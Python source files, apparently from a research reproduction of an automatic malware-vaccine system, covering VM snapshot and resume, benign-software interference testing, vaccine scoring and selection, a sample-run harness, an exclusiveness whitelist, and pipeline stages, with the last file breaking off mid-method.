# -- pickle-fallback flag (mirrors vm.superblock's env/override plumbing) ----

#: Environment default: set REPRO_SNAPSHOT_PICKLE=1 to capture the guest
#: environment as the legacy pickle blob instead of the structured rows.
_ENV_DEFAULT = os.environ.get("REPRO_SNAPSHOT_PICKLE", "0").lower() not in (
    "0",
    "",
    "false",
)
_override: Optional[bool] = None


def pickle_env_default() -> bool:
    """Is the legacy pickle-blob environment capture currently selected?"""
    return _ENV_DEFAULT if _override is None else _override


@contextmanager
def pickle_env_overridden(enabled: Optional[bool]) -> Iterator[None]:
    """Force the environment-capture strategy within a scope.

    ``True`` selects the legacy pickle blob, ``False`` the structured
    restore, ``None`` leaves the ambient default alone (so callers can
    thread an optional config value through unconditionally).
    """
    global _override
    if enabled is None:
        yield
        return
    previous = _override
    _override = enabled
    try:
        yield
    finally:
        _override = previous


def mutation_matches(candidate: "CandidateResource", event: ApiCallEvent) -> bool:
    """Does this API call touch the candidate resource?

    The single matching predicate shared by :class:`SnapshotRecorder` and
    :class:`~repro.core.impact.ResourceMutation` — the snapshot is taken at
    the first event the mutation would have intercepted, by construction.
    Only intercept-time identifiers participate (identifiers resolved late
    by the API implementation are invisible to interceptors on both paths).
    """
    if event.resource_type is not candidate.resource_type:
        return False
    if event.identifier is None:
        return False
    norm = normalize_identifier(event.resource_type, event.identifier)
    return norm == candidate.identifier


@dataclass
class VmSnapshot:
    """Complete guest state at one API interception site."""

    program_name: str
    #: Rewound to the call site: the resumed run re-executes the API call.
    pc: int
    steps: int
    next_event_id: int
    regs: Dict[str, int]
    reg_taint: Dict[str, TagSet]
    flags: Dict[str, int]
    flag_taint: TagSet
    callstack: List[int]
    mem_bytes: Dict[int, int]
    mem_taint: Dict[int, TagSet]
    mem_regions: List[Tuple[int, int]]
    mem_readonly: List[Tuple[int, int]]
    api_calls: List[ApiCallEvent]
    predicates: List[TaintedPredicateEvent]
    #: Structured environment capture (the default path): plain-data rows
    #: with handle->resource identity carried by an explicit id-map.
    env_state: Optional[EnvSnapshot] = None
    #: Legacy fallback — ``pickle.dumps((environment, process))``: one blob,
    #: one memo, selected via ``REPRO_SNAPSHOT_PICKLE``/``pickle_env_overridden``.
    env_blob: Optional[bytes] = None

    @classmethod
    def capture(cls, cpu: CPU, event: ApiCallEvent) -> "VmSnapshot":
        """Checkpoint ``cpu`` as of the *start* of the API call ``event``.

        Called from inside the dispatcher's interceptor phase, where guest
        state is untouched since the call instruction began: only ``pc``,
        ``steps`` and the trace's event-id counter have advanced, and all
        three are rewound to the event's own values.
        """
        memory = cpu.memory
        prof = obs.prof if obs.prof.enabled else None
        t_start = time.perf_counter() if prof is not None else 0.0
        env_state: Optional[EnvSnapshot] = None
        env_blob: Optional[bytes] = None
        if pickle_env_default():
            if prof is not None:
                t0 = time.perf_counter()
                env_blob = pickle.dumps(
                    (cpu.environment, cpu.process), pickle.HIGHEST_PROTOCOL
                )
                prof.add("snapshot;capture;env_pickle", time.perf_counter() - t0)
            else:
                env_blob = pickle.dumps(
                    (cpu.environment, cpu.process), pickle.HIGHEST_PROTOCOL
                )
        elif prof is not None:
            t0 = time.perf_counter()
            env_state = EnvSnapshot.capture(cpu.environment, cpu.process)
            prof.add("snapshot;capture;env_snapshot", time.perf_counter() - t0)
        else:
            env_state = EnvSnapshot.capture(cpu.environment, cpu.process)
        snapshot = cls(
            program_name=cpu.program.name,
            pc=event.caller_pc,
            steps=event.seq,
            next_event_id=event.event_id,
            regs=dict(cpu.regs),
            reg_taint=dict(cpu.reg_taint),
            flags=dict(cpu.flags),
            flag_taint=cpu.flag_taint,
            callstack=list(cpu.callstack),
            mem_bytes=dict(memory._bytes),
            mem_taint=dict(memory._taint),
            mem_regions=list(memory._regions),
            mem_readonly=list(memory.readonly_ranges),
            api_calls=list(cpu.trace.api_calls),
            predicates=list(cpu.trace.predicates),
            env_state=env_state,
            env_blob=env_blob,
        )
        if prof is not None:
            prof.add("snapshot;capture", time.perf_counter() - t_start)
        return snapshot

    def build_cpu(
        self,
        program,
        interceptors=None,
        max_steps: int = 200_000,
        record_instructions: bool = False,
        taint_addresses: bool = False,
    ) -> CPU:
        """Reconstruct a runnable CPU from this checkpoint.

        Each call restores an independent environment (structured rows are
        rebuilt fresh; on the fallback path the blob is unpickled fresh),
        so one snapshot can seed both mutation mechanisms without
        cross-contamination.

        Superblock mode re-arms naturally: :meth:`CPU.resume` rebuilds the
        region table for the resumed program, and because compiled regions
        only dispatch at their *entry* pc, a resume pc that lands mid-region
        simply executes per-instruction until control reaches the next
        region entry (see DESIGN.md, three-tier execution model).
        """
        from ..winapi.dispatcher import Dispatcher

        prof = obs.prof if obs.prof.enabled else None
        t_start = time.perf_counter() if prof is not None else 0.0
        if self.env_state is not None:
            if prof is not None:
                t0 = time.perf_counter()
                environment, process = self.env_state.restore()
                prof.add("snapshot;resume;env_restore", time.perf_counter() - t0)
            else:
                environment, process = self.env_state.restore()
        elif prof is not None:
            t0 = time.perf_counter()
            environment, process = pickle.loads(self.env_blob)
            prof.add("snapshot;resume;env_unpickle", time.perf_counter() - t0)
        else:
            environment, process = pickle.loads(self.env_blob)
        all_interceptors = list(environment.global_interceptors)
        all_interceptors.extend(interceptors or [])
        dispatcher = Dispatcher(environment, process, interceptors=all_interceptors)

        memory = Memory.restore(
            bytes_map=self.mem_bytes,
            taint_map=self.mem_taint,
            regions=self.mem_regions,
            readonly_ranges=self.mem_readonly,
        )

        trace = Trace(program_name=program.name)
        trace.api_calls = list(self.api_calls)
        trace.predicates = list(self.predicates)
        trace._event_ids = itertools.count(self.next_event_id)

        cpu = CPU.resume(
            program,
            environment,
            process,
            dispatcher,
            memory=memory,
            regs=dict(self.regs),
            reg_taint=dict(self.reg_taint),
            flags=dict(self.flags),
            flag_taint=self.flag_taint,
            pc=self.pc,
            steps=self.steps,
            callstack=list(self.callstack),
            trace=trace,
            max_steps=max_steps,
            record_instructions=record_instructions,
            taint_addresses=taint_addresses,
        )
        if prof is not None:
            # Reconstruction only — the resumed run's execution time lands on
            # the vm;* tiers, not here.
            prof.add("snapshot;resume", time.perf_counter() - t_start)
        return cpu


class SnapshotRecorder:
    """Interceptor capturing one snapshot per candidate during a single
    natural run.

    Sits in the interceptor chain exactly where the mutation would sit (so
    it observes the same pre-intercept event state), always PASSes, and on
    each candidate's *first* match checkpoints the machine.  Candidates
    sharing a first interception site share one snapshot object.
    """

    def __init__(self, candidates) -> None:
        self.pending: Dict[tuple, "CandidateResource"] = {
            c.key: c for c in candidates
        }
        #: candidate.key -> VmSnapshot (None: capture failed, use legacy).
        self.snapshots: Dict[tuple, Optional[VmSnapshot]] = {}
        self.cpu: Optional[CPU] = None

    def bind(self, cpu: CPU) -> None:
        self.cpu = cpu

    def intercept(self, apidef: "ApiDef", event: ApiCallEvent) -> Interception:
        if self.pending:
            matched = [
                key
                for key, candidate in self.pending.items()
                if mutation_matches(candidate, event)
            ]
            if matched:
                snapshot: Optional[VmSnapshot]
                try:
                    snapshot = VmSnapshot.capture(self.cpu, event)
                except Exception as exc:
                    snapshot = None
                    _log.warning(
                        "snapshot capture failed; falling back to full rerun",
                        api=event.api,
                        error=str(exc),
                    )
                    obs.metrics.counter("snapshot.capture_failures").inc()
                flight = obs.flight
                if flight.enabled:
                    flight_id = flight.record(
                        "snapshot.capture",
                        causes=(flight.recall(("api", event.event_id)),),
                        api=event.api,
                        identifier=event.identifier,
                        ok=snapshot is not None,
                        candidates=len(matched),
                    )
                    for key in matched:
                        flight.remember(("snapshot",) + key, flight_id)
                for key in matched:
                    del self.pending[key]
                    self.snapshots[key] = snapshot
        return Interception.PASS


__all__ = [
    "SnapshotRecorder",
    "VmSnapshot",
    "mutation_matches",
    "pickle_env_default",
    "pickle_env_overridden",
]
