"""Malware clinic test (paper §IV-D).

Deploy candidate vaccines into a test machine running benign software and
check they cause no interference: every benign program must behave exactly as
in a clean machine.  Vaccines implicated in incidents are discarded.

Incident attribution goes through the shared
:class:`~repro.delivery.engine.RuleEngine` — the *same* matching structure
the daemon intercepts with, so the clinic judges exactly what deployment
enforces.  (The previous ad-hoc ``_matches`` used prefix ``re.match`` while
the daemon used ``fullmatch``; a partial-static pattern could implicate
benign identifiers that merely shared a prefix.)
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import List, Optional, Sequence

from .. import obs
from ..delivery.engine import RuleEngine
from ..delivery.package import VaccinePackage, deploy
from ..vm.program import Program
from ..winenv.acl import IntegrityLevel
from ..winenv.environment import SystemEnvironment
from .runner import DEFAULT_BUDGET, run_sample
from .vaccine import Vaccine


@dataclass
class ClinicIncident:
    """A benign program behaved differently under vaccination."""

    program: str
    api: str
    identifier: Optional[str]
    detail: str
    #: The artifacts (vaccines or policy deny rules) whose identifier /
    #: pattern matched the failing access.
    implicated: List[object] = field(default_factory=list)


@dataclass
class ClinicReport:
    incidents: List[ClinicIncident] = field(default_factory=list)
    programs_tested: int = 0
    #: Vaccines that caused no incident.
    passed: List[Vaccine] = field(default_factory=list)
    #: Vaccines discarded for interfering with benign software.
    rejected: List[Vaccine] = field(default_factory=list)

    @property
    def clean(self) -> bool:
        return not self.incidents


def clinic_test(
    vaccines: Sequence[Vaccine],
    benign_programs: Sequence[Program],
    environment: Optional[SystemEnvironment] = None,
    max_steps: int = DEFAULT_BUDGET,
) -> ClinicReport:
    """Run the clinic: benign suite on a clean vs a vaccinated machine."""
    base = environment if environment is not None else SystemEnvironment()

    vaccinated = base.clone()
    deployment = deploy(VaccinePackage(vaccines=list(vaccines)), vaccinated)

    # Attribution engine: every vaccine by its observed identifier/pattern,
    # plus the per-host identifiers the deployed daemon computed from
    # slices — so a slice-derived rule implicates its source vaccine too.
    engine = RuleEngine.compile(vaccines=vaccines)
    daemon = deployment.daemon
    if daemon is not None:
        by_observed = {v.identifier: v for v in vaccines}
        for observed, computed in daemon.computed_identifiers.items():
            vaccine = by_observed.get(observed)
            if vaccine is not None and computed != observed:
                engine.add_vaccine(vaccine, identifier=computed)

    report = ClinicReport(programs_tested=len(benign_programs))
    incidents: List[ClinicIncident] = []
    for program in benign_programs:
        clean_run = run_sample(
            program,
            environment=base,
            max_steps=max_steps,
            record_instructions=False,
            integrity=IntegrityLevel.MEDIUM,
        )
        vacc_run = run_sample(
            program,
            environment=vaccinated,
            max_steps=max_steps,
            record_instructions=False,
            integrity=IntegrityLevel.MEDIUM,
        )
        incidents.extend(_compare_runs(program.name, clean_run, vacc_run, engine))
    report.incidents = incidents

    implicated = {id(v) for inc in incidents for v in inc.implicated}
    # An incident with no attribution is conservative grounds to reject all.
    if any(not inc.implicated for inc in incidents):
        report.rejected = list(vaccines)
        report.passed = []
    else:
        report.rejected = [v for v in vaccines if id(v) in implicated]
        report.passed = [v for v in vaccines if id(v) not in implicated]
    return report


def _compare_runs(name, clean_run, vacc_run, engine: RuleEngine) -> List[ClinicIncident]:
    incidents: List[ClinicIncident] = []

    clean_trace, vacc_trace = clean_run.trace, vacc_run.trace
    if clean_trace.exit_status != vacc_trace.exit_status:
        incidents.append(
            ClinicIncident(
                program=name,
                api="<exit>",
                identifier=None,
                detail=(
                    f"exit changed: {clean_trace.exit_status} -> {vacc_trace.exit_status}"
                ),
                implicated=[],
            )
        )

    clean_ok = {
        (e.api, e.caller_pc, e.identifier) for e in clean_trace.api_calls if e.success
    }
    clean_failed = {
        (e.api, e.caller_pc, e.identifier)
        for e in clean_trace.api_calls
        if not e.success
    }
    for event in vacc_trace.api_calls:
        if event.success:
            continue
        key = (event.api, event.caller_pc, event.identifier)
        if key not in clean_ok:
            continue  # also failed (or absent) on the clean machine
        if key in clean_failed:
            # The call site legitimately fails too on a clean machine
            # (e.g. an enumeration loop ending in ERROR_NO_MORE_ITEMS).
            continue
        if obs.prof.enabled:
            t0 = time.perf_counter()
            matched = engine.match_all(
                event.resource_type, event.identifier, event.operation
            )
            obs.prof.add("rules;clinic", time.perf_counter() - t0)
        else:
            matched = engine.match_all(
                event.resource_type, event.identifier, event.operation
            )
        implicated: List[object] = []
        for rule in matched:
            # A vaccine can contribute several rules (observed + computed
            # identifier); implicate the source artifact once.
            if not any(rule.source is seen for seen in implicated):
                implicated.append(rule.source)
        incidents.append(
            ClinicIncident(
                program=name,
                api=event.api,
                identifier=event.identifier,
                detail=f"succeeded clean, failed vaccinated (error 0x{event.error:x})",
                implicated=implicated,
            )
        )
    return incidents
