"""Malware clinic test (paper §IV-D).

Deploy candidate vaccines into a test machine running benign software and
check they cause no interference: every benign program must behave exactly as
in a clean machine.  Vaccines implicated in incidents are discarded.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from ..delivery.package import VaccinePackage, deploy
from ..vm.program import Program
from ..winenv.acl import IntegrityLevel
from ..winenv.environment import SystemEnvironment
from .runner import DEFAULT_BUDGET, run_sample
from .vaccine import Vaccine, normalize_identifier


@dataclass
class ClinicIncident:
    """A benign program behaved differently under vaccination."""

    program: str
    api: str
    identifier: Optional[str]
    detail: str
    #: The vaccine(s) whose identifier/pattern matched the failing access.
    implicated: List[Vaccine] = field(default_factory=list)


@dataclass
class ClinicReport:
    incidents: List[ClinicIncident] = field(default_factory=list)
    programs_tested: int = 0
    #: Vaccines that caused no incident.
    passed: List[Vaccine] = field(default_factory=list)
    #: Vaccines discarded for interfering with benign software.
    rejected: List[Vaccine] = field(default_factory=list)

    @property
    def clean(self) -> bool:
        return not self.incidents


def clinic_test(
    vaccines: Sequence[Vaccine],
    benign_programs: Sequence[Program],
    environment: Optional[SystemEnvironment] = None,
    max_steps: int = DEFAULT_BUDGET,
) -> ClinicReport:
    """Run the clinic: benign suite on a clean vs a vaccinated machine."""
    base = environment if environment is not None else SystemEnvironment()

    vaccinated = base.clone()
    deploy(VaccinePackage(vaccines=list(vaccines)), vaccinated)

    report = ClinicReport(programs_tested=len(benign_programs))
    incidents: List[ClinicIncident] = []
    for program in benign_programs:
        clean_run = run_sample(
            program,
            environment=base,
            max_steps=max_steps,
            record_instructions=False,
            integrity=IntegrityLevel.MEDIUM,
        )
        vacc_run = run_sample(
            program,
            environment=vaccinated,
            max_steps=max_steps,
            record_instructions=False,
            integrity=IntegrityLevel.MEDIUM,
        )
        incidents.extend(_compare_runs(program.name, clean_run, vacc_run, vaccines))
    report.incidents = incidents

    implicated = {id(v) for inc in incidents for v in inc.implicated}
    # An incident with no attribution is conservative grounds to reject all.
    if any(not inc.implicated for inc in incidents):
        report.rejected = list(vaccines)
        report.passed = []
    else:
        report.rejected = [v for v in vaccines if id(v) in implicated]
        report.passed = [v for v in vaccines if id(v) not in implicated]
    return report


def _compare_runs(name, clean_run, vacc_run, vaccines) -> List[ClinicIncident]:
    incidents: List[ClinicIncident] = []

    clean_trace, vacc_trace = clean_run.trace, vacc_run.trace
    if clean_trace.exit_status != vacc_trace.exit_status:
        incidents.append(
            ClinicIncident(
                program=name,
                api="<exit>",
                identifier=None,
                detail=(
                    f"exit changed: {clean_trace.exit_status} -> {vacc_trace.exit_status}"
                ),
                implicated=[],
            )
        )

    clean_ok = {
        (e.api, e.caller_pc, e.identifier) for e in clean_trace.api_calls if e.success
    }
    clean_failed = {
        (e.api, e.caller_pc, e.identifier)
        for e in clean_trace.api_calls
        if not e.success
    }
    for event in vacc_trace.api_calls:
        if event.success:
            continue
        key = (event.api, event.caller_pc, event.identifier)
        if key not in clean_ok:
            continue  # also failed (or absent) on the clean machine
        if key in clean_failed:
            # The call site legitimately fails too on a clean machine
            # (e.g. an enumeration loop ending in ERROR_NO_MORE_ITEMS).
            continue
        implicated = [v for v in vaccines if _matches(v, event)]
        incidents.append(
            ClinicIncident(
                program=name,
                api=event.api,
                identifier=event.identifier,
                detail=f"succeeded clean, failed vaccinated (error 0x{event.error:x})",
                implicated=implicated,
            )
        )
    return incidents


def _matches(vaccine: Vaccine, event) -> bool:
    if event.resource_type is not vaccine.resource_type or event.identifier is None:
        return False
    identifier = normalize_identifier(event.resource_type, event.identifier)
    if identifier == vaccine.identifier:
        return True
    if vaccine.pattern:
        import re

        return re.match(vaccine.pattern, identifier) is not None
    return False
