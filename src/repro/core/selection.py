"""Vaccine set selection.

The paper (§II-A): "an ideal malware vaccine is those with full immunization
and one-time direct injection.  However, other types of vaccines are also
useful."  A sample often yields several vaccines; deployments want a small,
cheap, maximally-effective subset.  This module scores vaccines along the
paper's taxonomy axes and picks a minimal set that preserves coverage.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Sequence, Set, Tuple

from .vaccine import DeliveryKind, IdentifierKind, Immunization, Vaccine

#: Immunization value: full stops everything; partials ranked by how much of
#: the malware lifecycle they remove (paper's discussion order).
_IMMUNIZATION_SCORE = {
    Immunization.FULL: 100,
    Immunization.TYPE_I_KERNEL: 40,
    Immunization.TYPE_II_NETWORK: 35,
    Immunization.TYPE_III_PERSISTENCE: 30,
    Immunization.TYPE_IV_INJECTION: 25,
    Immunization.NONE: 0,
}

#: Deployment cost preference: one-time injection beats a resident daemon.
_DELIVERY_SCORE = {
    DeliveryKind.DIRECT_INJECTION: 20,
    DeliveryKind.DAEMON: 5,
}

#: Identifier robustness: static names are simplest to reproduce; slices
#: still deterministic; regexes risk over-matching.
_KIND_SCORE = {
    IdentifierKind.STATIC: 15,
    IdentifierKind.ALGORITHM_DETERMINISTIC: 10,
    IdentifierKind.PARTIAL_STATIC: 6,
    IdentifierKind.NON_DETERMINISTIC: 0,
}


def score(vaccine: Vaccine) -> int:
    """Higher is better; BDR (when measured) is a tiebreaker."""
    value = (
        _IMMUNIZATION_SCORE[vaccine.immunization]
        + _DELIVERY_SCORE[vaccine.delivery]
        + _KIND_SCORE[vaccine.identifier_kind]
    )
    if vaccine.bdr is not None:
        value += int(10 * vaccine.bdr)
    return value


def rank(vaccines: Iterable[Vaccine]) -> List[Vaccine]:
    """Best-first ordering."""
    return sorted(vaccines, key=score, reverse=True)


@dataclass
class SelectionResult:
    selected: List[Vaccine] = field(default_factory=list)
    dropped: List[Vaccine] = field(default_factory=list)
    #: immunization classes covered per malware sample.
    coverage: Dict[str, Set[Immunization]] = field(default_factory=dict)

    def __len__(self) -> int:
        return len(self.selected)


def select_minimal(vaccines: Sequence[Vaccine]) -> SelectionResult:
    """Per malware: keep the best full-immunization vaccine if one exists;
    otherwise keep the best vaccine of each partial class.

    Redundant vaccines (same sample, effect already covered by a
    better-scored vaccine) are dropped — they can still ship as backups for
    variant robustness (see :func:`select_with_backups`).
    """
    result = SelectionResult()
    by_malware: Dict[str, List[Vaccine]] = {}
    for vaccine in vaccines:
        by_malware.setdefault(vaccine.malware, []).append(vaccine)

    for malware, group in sorted(by_malware.items()):
        ordered = rank(group)
        covered: Set[Immunization] = set()
        for vaccine in ordered:
            if Immunization.FULL in covered:
                result.dropped.append(vaccine)
                continue
            if vaccine.immunization in covered:
                result.dropped.append(vaccine)
                continue
            covered.add(vaccine.immunization)
            result.selected.append(vaccine)
        result.coverage[malware] = covered
    return result


def select_with_backups(
    vaccines: Sequence[Vaccine], backups_per_sample: int = 1
) -> SelectionResult:
    """Minimal set plus up to N backup vaccines per sample.

    The paper's Table-VII finding motivates backups: "even some may not be
    effective for all variants, the combination of these vaccines can still
    achieve satisfiable results".
    """
    minimal = select_minimal(vaccines)
    if backups_per_sample <= 0:
        return minimal
    taken = {id(v) for v in minimal.selected}
    extra_per_sample: Dict[str, int] = {}
    still_dropped: List[Vaccine] = []
    for vaccine in rank(minimal.dropped):
        used = extra_per_sample.get(vaccine.malware, 0)
        if used < backups_per_sample and id(vaccine) not in taken:
            minimal.selected.append(vaccine)
            extra_per_sample[vaccine.malware] = used + 1
        else:
            still_dropped.append(vaccine)
    minimal.dropped = still_dropped
    return minimal
