"""Shared sample-execution harness.

Every phase runs guest programs the same way: clone a pristine environment,
spawn a low-integrity process (malware's state at initial infection), attach
the dispatcher (optionally with interceptors), execute under a step budget.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Callable, Iterable, Optional, Tuple

from .. import obs
from ..tracing.trace import Trace
from ..vm.cpu import CPU, ExitStatus
from ..vm.program import Program
from ..winapi.dispatcher import Dispatcher, Interceptor
from ..winenv.acl import IntegrityLevel
from ..winenv.environment import SystemEnvironment

if TYPE_CHECKING:  # pragma: no cover - annotations only
    from .snapshot import VmSnapshot

#: Default per-run instruction budget (the paper's 1-minute cap analogue).
DEFAULT_BUDGET = 100_000


@dataclass
class RunResult:
    """Everything one guest run produced."""

    trace: Trace
    cpu: CPU
    environment: SystemEnvironment

    @property
    def process(self):
        return self.cpu.process


def run_sample(
    program: Program,
    environment: Optional[SystemEnvironment] = None,
    interceptors: Optional[Iterable[Interceptor]] = None,
    max_steps: int = DEFAULT_BUDGET,
    record_instructions: bool = True,
    integrity: IntegrityLevel = IntegrityLevel.MEDIUM,
    clone_environment: bool = True,
    taint_addresses: bool = False,
    on_cpu: Optional[Callable[[CPU], None]] = None,
) -> RunResult:
    """Execute ``program`` in a fresh (or supplied) environment.

    ``clone_environment`` keeps the caller's environment pristine so repeated
    runs are reproducible — the property trace alignment depends on.
    Malware runs at MEDIUM integrity (launched by the logged-in user at
    initial infection); vaccine resources are SYSTEM-owned, so they still
    out-rank it.

    ``on_cpu`` is called with the constructed CPU before execution starts —
    the hook interceptors that need machine state (the snapshot recorder)
    use to bind themselves to the run.
    """
    if environment is None:
        env = SystemEnvironment()
    elif clone_environment:
        env = environment.clone()
    else:
        env = environment
    process = env.spawn_process(
        f"{program.name}.exe", image_path=f"c:\\temp\\{program.name}.exe", integrity=integrity
    )
    all_interceptors = list(env.global_interceptors)
    all_interceptors.extend(interceptors or [])
    dispatcher = Dispatcher(env, process, interceptors=all_interceptors)
    cpu = CPU(
        program,
        environment=env,
        process=process,
        dispatcher=dispatcher,
        max_steps=max_steps,
        record_instructions=record_instructions,
        taint_addresses=taint_addresses,
    )
    if on_cpu is not None:
        on_cpu(cpu)
    trace = cpu.run()
    if obs.metrics.enabled:
        obs.metrics.counter("runner.runs", status=cpu.status.value).inc()
        obs.metrics.counter("runner.instructions").inc(cpu.steps)
        if cpu.status is ExitStatus.BUDGET:
            obs.metrics.counter("runner.budget_exhausted").inc()
    return RunResult(trace=trace, cpu=cpu, environment=env)


def resume_sample(
    program: Program,
    snapshot: "VmSnapshot",
    interceptors: Optional[Iterable[Interceptor]] = None,
    max_steps: int = DEFAULT_BUDGET,
    record_instructions: bool = False,
    taint_addresses: bool = False,
) -> RunResult:
    """Resume ``program`` from a mid-run :class:`VmSnapshot`.

    The counterpart of :func:`run_sample` for Phase-II mutated runs: the
    restored state already contains the environment evolved through the
    shared prefix, so only the divergent suffix executes.  The returned
    trace is a *complete* trace (prefix events + suffix events) — alignment
    and delta classification consume it exactly like a full rerun's.
    """
    cpu = snapshot.build_cpu(
        program,
        interceptors=interceptors,
        max_steps=max_steps,
        record_instructions=record_instructions,
        taint_addresses=taint_addresses,
    )
    trace = cpu.run()
    if obs.metrics.enabled:
        obs.metrics.counter("runner.runs", status=cpu.status.value).inc()
        obs.metrics.counter("runner.resumes").inc()
        obs.metrics.counter("runner.instructions").inc(cpu.steps - snapshot.steps)
        obs.metrics.counter("runner.instructions_skipped").inc(snapshot.steps)
        if cpu.status is ExitStatus.BUDGET:
            obs.metrics.counter("runner.budget_exhausted").inc()
    return RunResult(trace=trace, cpu=cpu, environment=cpu.environment)
