"""Phase II, step I — exclusiveness analysis (paper §IV-A).

Resources also used by benign software (library names like ``uxtheme.dll``,
standard registry keys, standard processes) must not become vaccines: flipping
them would break benign programs.  Identifiers are checked against

1. a pre-built whitelist of platform resources (the paper combines search
   results with a "pre-built whitelist", §VI-F), and
2. the offline search engine: any hit associating the identifier with benign
   software excludes it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Set

from .. import obs
from ..search.engine import SearchEngine
from ..winenv.filesystem import STARTUP_FOLDER, SYSTEM32, SYSTEM_INI
from ..winenv.libraries import STANDARD_LIBRARIES
from ..winenv.objects import ResourceType
from ..winenv.processes import STANDARD_PROCESSES
from ..winenv.registry import PERSISTENCE_KEY_PREFIXES
from .candidate import CandidateResource

#: Platform resources that exist on every machine — never exclusive.
#: Exact matches only: a malware-private file *inside* system32 is still a
#: perfectly exclusive vaccine.
_EXACT_WHITELIST: Set[str] = {
    *(name for name in STANDARD_LIBRARIES),
    *(name for name in STANDARD_PROCESSES),
    "scmanager",
    "eventlog",
    "dhcp",
    SYSTEM_INI,
    SYSTEM32,
    STARTUP_FOLDER,
    "c:\\windows",
    "c:\\windows\\temp",
    "shell_traywnd",
    "progman",
}

#: Registry subtrees shared with benign software — prefix semantics, because
#: any value/subkey under them is contended (Run keys, services, winlogon).
_PREFIX_WHITELIST: Set[str] = {
    *(prefix for prefix in PERSISTENCE_KEY_PREFIXES),
    "hklm\\software\\microsoft\\windows\\currentversion",
}


@dataclass
class ExclusivenessDecision:
    candidate: CandidateResource
    exclusive: bool
    reason: str = ""
    hits: int = 0


@dataclass
class ExclusivenessAnalyzer:
    """Filters candidate resources that collide with benign software."""

    search: SearchEngine = field(default_factory=SearchEngine)
    extra_whitelist: Set[str] = field(default_factory=set)

    def is_whitelisted(self, identifier: str) -> bool:
        needle = identifier.lower()
        if needle in _EXACT_WHITELIST:
            return True
        if needle in {w.lower() for w in self.extra_whitelist}:
            return True
        for prefix in _PREFIX_WHITELIST:
            if needle == prefix or needle.startswith(prefix.rstrip("\\") + "\\"):
                return True
        return False

    def check(self, candidate: CandidateResource) -> ExclusivenessDecision:
        decision = self._decide(candidate)
        flight = obs.flight
        if flight.enabled:
            flight_id = flight.record(
                "verdict.exclusiveness",
                causes=(
                    flight.recall(
                        ("candidate", candidate.resource_type.value, candidate.identifier)
                    ),
                ),
                resource=candidate.resource_type.value,
                identifier=candidate.identifier,
                exclusive=decision.exclusive,
                reason=decision.reason,
            )
            flight.remember(
                ("exclusive", candidate.resource_type.value, candidate.identifier),
                flight_id,
            )
        return decision

    def _decide(self, candidate: CandidateResource) -> ExclusivenessDecision:
        identifier = candidate.identifier
        if self.is_whitelisted(identifier):
            return ExclusivenessDecision(candidate, False, reason="whitelisted platform resource")

        # Query the full identifier and, for paths, its basename — the
        # fragment benign documentation would actually mention.
        probes = [identifier]
        if candidate.resource_type in (ResourceType.FILE, ResourceType.LIBRARY):
            probes.append(identifier.rsplit("\\", 1)[-1])
        total_hits = 0
        for probe in probes:
            hits = self.search.query(probe)
            total_hits += len(hits)
            if hits:
                return ExclusivenessDecision(
                    candidate,
                    False,
                    reason=f"search hit: {hits[0].title!r}",
                    hits=total_hits,
                )
        return ExclusivenessDecision(candidate, True, reason="no benign association", hits=0)

    def filter(self, candidates: List[CandidateResource]) -> List[ExclusivenessDecision]:
        return [self.check(c) for c in candidates]

    def exclusive_candidates(self, candidates: List[CandidateResource]) -> List[CandidateResource]:
        return [d.candidate for d in self.filter(candidates) if d.exclusive]
