"""Composable pipeline stages (paper Figure 1, one object per box).

``AutoVac`` executes a constructor-visible sequence of :class:`Stage`
objects over a shared :class:`AnalysisContext` instead of one monolithic
method.  Each stage decides:

* :meth:`Stage.active` — does the stage appear in this sample's span tree at
  all?  (``exploration`` only exists when enforced execution is on);
* :meth:`Stage.ready` — does it run, or emit a ``skipped=True`` span?
  (everything after Phase I is skipped once the sample is filtered);
* :meth:`Stage.run` — the actual work, reading and writing the context.

The default order reproduces the paper's pipeline exactly; ablation benches
can now pass a reduced or reordered stage list instead of boolean flags
(the flags remain as thin shims that parameterize the default stages).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, List, Sequence, Tuple

from .. import obs
from .candidate import CandidateResource, select_candidates
from .clinic import clinic_test
from .policy import synthesize_policy, validate_policy
from .vaccine import Mechanism, Vaccine

if TYPE_CHECKING:  # pragma: no cover - annotations only
    from ..obs import Span
    from ..vm.program import Program
    from .pipeline import AutoVac, SampleAnalysis


@dataclass
class AnalysisContext:
    """Mutable state threaded through the stages for one sample.

    ``candidates`` is the working set each Phase-II stage refines;
    ``done`` short-circuits the remaining stages (they still emit
    ``skipped=True`` spans so every sample's span tree has the same shape).
    """

    program: "Program"
    analysis: "SampleAnalysis"
    pipeline: "AutoVac"
    candidates: List[CandidateResource] = field(default_factory=list)
    done: bool = False


class Stage:
    """One pipeline step.  Subclasses override ``run`` (and optionally
    ``active``/``ready``); ``name`` becomes the stage's span name."""

    name: str = "stage"

    def active(self, ctx: AnalysisContext) -> bool:
        """Whether this stage appears in the sample's span tree at all."""
        return True

    def ready(self, ctx: AnalysisContext) -> bool:
        """Whether the stage runs; otherwise it emits a skipped span."""
        return not ctx.done

    def run(self, ctx: AnalysisContext, span: "Span") -> None:
        raise NotImplementedError

    def __repr__(self) -> str:  # pragma: no cover
        return f"{type(self).__name__}({self.name!r})"


class Phase1Stage(Stage):
    """Phase I — profiling + taint candidate selection; applies the
    no-resource-dependent-branch filter."""

    name = "phase1"

    def ready(self, ctx: AnalysisContext) -> bool:
        return True

    def run(self, ctx: AnalysisContext, span: "Span") -> None:
        pipeline = ctx.pipeline
        phase1 = select_candidates(
            ctx.program,
            environment=pipeline.environment,
            max_steps=pipeline.profile_budget,
        )
        ctx.analysis.phase1 = phase1
        if not phase1.has_vaccine_potential:
            ctx.analysis.filtered_reason = (
                "no resource-dependent branch (Phase I filter)"
            )
            ctx.done = True
            return
        ctx.candidates = [
            c for c in phase1.candidates if c.influences_control_flow or c.had_failure
        ]


class ExplorationStage(Stage):
    """Enforced execution (§VIII): discover candidates on dormant paths.

    Only present in the span tree when ``explore_paths`` is on and the
    sample passed the Phase-I filter (matches the pre-stage behaviour)."""

    name = "exploration"

    def active(self, ctx: AnalysisContext) -> bool:
